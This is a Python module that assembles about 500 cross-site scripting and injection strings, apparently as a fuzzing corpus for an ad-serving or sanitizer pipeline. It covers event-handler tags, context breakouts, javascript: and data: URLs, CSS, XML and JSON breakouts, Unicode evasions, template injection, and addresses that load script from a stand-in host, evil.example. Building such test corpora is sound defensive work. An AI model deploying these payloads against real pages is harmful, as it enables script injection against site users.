"""Texts that want to be more than texts: some 500, for every language that pages, players and programs read.

Each calls `alert`, if anything takes it for a program.
"""

from itertools import product

ELEMENTS = (
    "<script>alert(1)</script>", "<ScRiPt >alert(1)</sCrIpT >", "<script/x>alert(1)</script>", "<img src=x onerror=alert(1)>",
    "<img src=x onerror='alert(1)'//", "<svg onload=alert(1)>", "<svg/onload=alert`1`>", "<svg><script>alert&#40;1&#41;</script>",
    "<body onload=alert(1)>", "<iframe src=javascript:alert(1)></iframe>", '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)></audio>", "<details open ontoggle=alert(1)>x",
    "<input autofocus onfocus=alert(1)>", "<a href=javascript:alert(1) autofocus tabindex=1 onfocus=alert(1)>x</a>",
    "<object data=javascript:alert(1)></object>", "<embed src=javascript:alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=alert(1)>",
    "<form><button formaction=javascript:alert(1) autofocus onfocus=alert(1)>x</button></form>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<base href=javascript:alert(1)//>", "<link rel=stylesheet href=data:,x onload=alert(1)>",
)  # fmt: skip
"""Elements that run something without anybody's doing."""
WAYS_OUT = (
    "", '"', "'", ">", '">', "'>", '"/>', "</title>", "</textarea>", "</script>", "</style>", "-->", "]]>", "</noscript>",
    "</a></div>", "</template></iframe>",
)  # fmt: skip
"""What ends whatever a text may stand in."""
ATTRIBUTES = tuple(
    f"{quote}{gap}{attribute}"
    for quote, gap, attribute in product(
        ('"', "'", "`", ""),
        (" ", "\t", "/"),
        ("onload=alert(1) x=", "autofocus onfocus=alert(1) x=", "style=animation-name:x onanimationstart=alert(1) x="),
    )
)  # fmt: skip
ADDRESSES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", " javascript:alert(1)", "\x01javascript:alert(1)",
    "javascript&colon;alert(1)", "&#106;avascript:alert(1)", "javascript://%0aalert(1)", "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "vbscript:alert(1)", "//evil.example/x.js", "\\\\evil.example\\x.js",
    'https://evil.example/?a="onerror=alert(1) ', "blob:alert(1)", "view-source:javascript:alert(1)",
)  # fmt: skip
SCRIPTS = (
    "';alert(1)//", '";alert(1)//', "`;alert(1)//", "\\';alert(1)//", '\\";alert(1)//', "${alert(1)}", "'+alert(1)+'", '"-alert(1)-"',
    "*/alert(1)/*", "\nalert(1)//", "\u2028alert(1)//", "\u2029alert(1)//", "\\u0027;alert(1)//", "\\x27;alert(1)//",
    "<!--alert(1)", "-->alert(1)", "</script><script>alert(1)", "');alert(1);('", '"}];alert(1);[{"', "\\",
)  # fmt: skip
STYLES = (
    "expression(alert(1))", "url(javascript:alert(1))", "}*{background:url(javascript:alert(1))}", "</style><script>alert(1)</script>",
    "x;behavior:url(x.htc)", "@import 'javascript:alert(1)';", "\\3c script\\3e alert(1)", "/*</style><img src=x onerror=alert(1)>*/",
)  # fmt: skip
NOTATIONS = (
    '"}],"x":"<script>alert(1)</script>', "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", '","onload":"alert(1)', "\\ud800", "\x00",
    "]]><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>", "]]]]><![CDATA[><script>alert(1)</script>",
    '<?xml-stylesheet href="javascript:alert(1)"?>', '<!DOCTYPE x [<!ENTITY e "<script>alert(1)</script>">]>&e;', "<?alert(1)?>",
    '<x xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></x>', "</AdTitle></InLine></Ad></VAST><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "%3Cscript%3Ealert(1)%3C/script%3E",
    "%253Cscript%253Ealert(1)", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\x1b[31malert(1)", '=HYPERLINK("javascript:alert(1)")',
)  # fmt: skip
LETTERS = (
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "\u2039script\u203aalert(1)", "\u02c2img src=x onerror=alert(1)\u02c3", "<\u0000script>alert(1)</script>",
    "<scr\u0000ipt>alert(1)</scr\u0000ipt>", "<\ufeffscript>alert(1)</script>", "\ufeff<script>alert(1)</script>", "\u202e>tpircs/<)1(trela>tpircs<",
    "<img\u00a0src=x onerror=alert(1)>", "<img\x0csrc=x\x0conerror=alert(1)>", "<svg\x0bonload=alert(1)>", "<\u017fcript>alert(1)</\u017fcript>",
    "\u200b<script>alert(1)</script>", "\U0001f98a<img src=x onerror=alert(1)>", "\u0338<script>alert(1)</script>", "\u00bcscript\u00bealert(1)\u00bc/script\u00be",
)  # fmt: skip
GAPS = (
    "{{click_url}}", "{{impression_url|js}}", "{{constructor.constructor('alert(1)')()}}", "{{7*7}}", "{% raw %}<script>alert(1)</script>",
    "${AUCTION_PRICE}", "%%CLICK_URL_UNESC%%", "#{alert(1)}", "<%= alert(1) %>", "[[alert(1)]]", "{{{alert(1)}}}", "{%{alert(1)}%}", "@{alert(1)}",
    "\x000\x00", "\x00why\x00", "{0}{event}%s%n",
)  # fmt: skip
"""What template languages, exchanges and our own channels fill in."""
PAYLOADS: tuple[str, ...] = tuple(
    dict.fromkeys(
        (
            *(way + element for element, way in product(ELEMENTS, WAYS_OUT)),
            *ATTRIBUTES, *ADDRESSES, *SCRIPTS, *STYLES, *NOTATIONS, *LETTERS, *GAPS,
        )
    )
)  # fmt: skip
